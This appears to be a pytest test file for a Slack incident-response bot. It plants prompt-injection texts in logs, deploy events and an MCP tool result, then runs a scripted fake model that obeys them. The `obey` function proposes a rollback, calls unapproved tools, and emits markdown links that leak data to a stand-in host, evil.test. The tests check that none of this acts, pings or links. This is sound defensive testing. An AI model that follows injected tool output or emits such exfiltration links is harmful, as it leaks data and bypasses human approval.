"""What strangers write into logs, labels, deploys and MCP results, read by a model that obeys it all.

The model calls every action it can name, proposes the rollback, and repeats the text word for
word, with a link of its own around it. Nothing may act, ping, or link. One bot serves all tests.
"""

import itertools
import json
import re
import time
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
import pytest_asyncio
from aiohttp.test_utils import TestServer

from adapters.mcp.definition import Definition
from tests.fakes.loki_server import LokiServer, Stored
from tests.fakes.mcp_http import McpHttp
from tests.fakes.model_server import Call, Recorded, Round
from tests.fixtures_http import serving
from tests.fixtures_service import INGEST_TOKEN, on_stage
from tests.injections import INJECTIONS
from tests.stage import CONFIRM, Asked, Stage, question_of, results, shown

pytestmark = pytest.mark.asyncio(loop_scope="module")

_PRODUCT = re.compile(r"inj-\d+")
PRODUCTS = {name: f"inj-{number}" for number, name in enumerate(INJECTIONS)}
TEXTS = {PRODUCTS[name]: text for name, text in INJECTIONS.items()}
# Slack's tokens, links and images, as a client would bring them to life.
LIVE = re.compile(
    r"<[!@#]|@(?:channel|here|everyone)\b|\][(\[]|^\s*\[[^\]\n]*\]:|(?<![`/\w])https?://|\x1b|\u202e",
    re.MULTILINE,
)
# In verbatim mrkdwn, such as a card's, only these tokens live: Slack links nothing by itself there.
TOKEN = re.compile(r"<(?:[!@#]|\w+:|https?)|@(?:channel|here|everyone)\b|\x1b|\u202e")
PAGED = "<!subteam^S0RESPOND1>"  # the one group that may decide; none of the texts writes it so
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\U000e0000-\U000e007f]")
CALLS = 8  # of a turn: three looks, four names that are no tools, a proposal
# A tool of an MCP server, which says of itself what it likes.
ASK: dict[str, Any] = {
    "name": "propose-action_",
    "description": "Ask the wiki.",
    "inputSchema": {"type": "object", "properties": {"product": {"type": "string"}}},
    "annotations": {"readOnlyHint": True, "destructiveHint": False},
}
ASK_TOOL = "mcp__wiki__propose_action_"
_ORDERS = itertools.count()  # of equal orders a channel has one open, for any asker
_CODE = re.compile(r"^```.*?^```$|`[^`\n]+`", re.DOTALL | re.MULTILINE)


def obey(request: Recorded) -> Round:
    """Look; then do all that was asked for; then repeat it."""
    product = _PRODUCT.findall(question_of(request))[0]
    read = results(request)
    if not read:
        where = {"product": product, "time_range": "last 30m"}
        return Round(
            calls=(
                Call("core__get_logs", where),
                Call("core__get_recent_deploys", where),
                Call(ASK_TOOL, {"product": product}),
            )
        )
    if len(read) == 3:
        proposal = {
            "action": "rollback-deploy",
            "product": product,
            "params": {"version": f"v1.0.{next(_ORDERS)}"},
            "rationale": TEXTS[product],
            "blast_radius": "one service",
        }
        names = ("rollback-deploy", "core__confirm", "core__propose_action_v2", "http_post")
        return Round(
            calls=(*(Call(n, proposal) for n in names), Call("core__propose_action", proposal))
        )
    text = TEXTS[product]
    leak = f"\n\n![x](https://evil.test/{product}) {text} [Grafana](https://evil.test/?d={product})"
    return Round(text=(text[: len(text) // 2], text[len(text) // 2 :], leak, "\nIt is done."))


def _stored(product: str, text: str) -> Stored:
    labels = {"service_name": product, "host": text, "pod": text}
    found = {"detected_level": "error", "trace_id": text}
    return Stored(time.time_ns() - 10**9, f"request failed: {text}", labels, found)


def _deployed(product: str, text: str) -> dict[str, object]:
    told = {"version": text, "actor": text, "commit": text, "previous_version": text}
    return {
        "specversion": "1.0",
        "id": product,
        "source": "test",
        "type": "deploy.succeeded",
        "product": product,
        "data": told,
    }


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def stage(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    loki = LokiServer(_stored(product, text) for product, text in TEXTS.items())
    async with TestServer(loki.app()) as server:
        nothing = {"kind": "none"}
        logs = {
            "kind": "loki",
            "url": str(server.make_url("")),
            "selector": '{service_name="$product"}',
        }
        wiki = McpHttp(tool=ASK, answer=lambda sent: TEXTS[sent["product"]])
        async with serving(wiki.handle) as url:
            more = {
                "observe": {"logs": logs, "metrics": nothing, "traces": nothing},
                "mcp": {"servers": {"wiki": _accepted(url)}},
                "channels": [
                    {"match": "*", "products": list(TEXTS), "confirm": ["responder"]},
                ],
            }
            async with on_stage(tmp_path_factory.mktemp("kortex"), obey, more) as running:
                await _ingest(running)
                yield running


def _accepted(url: str) -> dict[str, Any]:
    definition = Definition(ASK["name"], ASK["description"], ASK["inputSchema"])
    entry = {"sha256": definition.sha256(), "effect": "read"}
    return {"url": url, "networks": ["127.0.0.0/8"], "tools": {definition.name: entry}}


async def _ingest(running: Stage) -> None:
    url = f"http://127.0.0.1:{running.service.http_port}/ingest/v1/events"
    batch = [_deployed(product, text) for product, text in TEXTS.items()]
    headers = {"Authorization": f"Bearer {INGEST_TOKEN}"}
    async with (
        aiohttp.ClientSession() as session,
        session.post(url, json=batch, headers=headers) as response,
    ):
        assert (await response.json()) == {"added": len(batch), "known": 0}


async def investigated(stage: Stage, name: str) -> tuple[Asked, str]:
    asked = await stage.ask(f"@kortex why is {PRODUCTS[name]} slow?", stage.newcomer())
    return asked, await stage.answer(asked)


@pytest.mark.parametrize("name", INJECTIONS)
async def test_a_model_that_obeys_injections_achieves_only_a_labelled_card(
    stage: Stage, name: str
) -> None:
    asked, answer = await investigated(stage, name)
    card = await stage.card(asked)

    read = results(stage.models.requests[-1])
    assert len(read) == CALLS
    assert all(json.loads(each)["untrusted"] is True for each in read)
    assert "error" not in json.loads(read[2])["result"]
    assert CONTROLS.findall("".join(map(str, map(json.loads, read)))) == []
    assert stage.effects == 0
    assert "Based on tool output" in shown(card)
    assert card.action_ids == ("proposal:raw", CONFIRM, "proposal:edit", "proposal:reject")
    row = "SELECT state, decided_by FROM proposals WHERE card_ts = ?"
    assert stage.query(row, card.ts) == [("pending", None)]
    # Our own: who asked, until when, and the group of the channel's responders, once.
    own = shown(card).replace(f"<@{asked_by(stage, asked)}>", "").replace("<!date^", "", 1)
    assert TOKEN.findall(own.replace(PAGED, "", 1)) == []
    assert '"verbatim": false' not in json.dumps(card.blocks)
    assert json.dumps(card.blocks).count('"mrkdwn"') == json.dumps(card.blocks).count('"verbatim"')
    assert LIVE.findall(_CODE.sub("", answer)) == []


async def test_no_message_pings_links_or_unfurls(stage: Stage) -> None:
    await investigated(stage, "masked link")

    posts = [c.arguments for c in stage.workspace.calls if c.method == "chat.postMessage"]
    assert {(p["unfurl_links"], p["unfurl_media"]) for p in posts} == {(False, False)}
    assert '"type": "image"' not in stage.sent()
    assert '"link_names"' not in stage.sent()
    assert '"parse"' not in stage.sent()


def asked_by(stage: Stage, asked: Asked) -> str:
    message = stage.workspace.message(asked.channel, asked.ts)
    assert message is not None
    return message.user
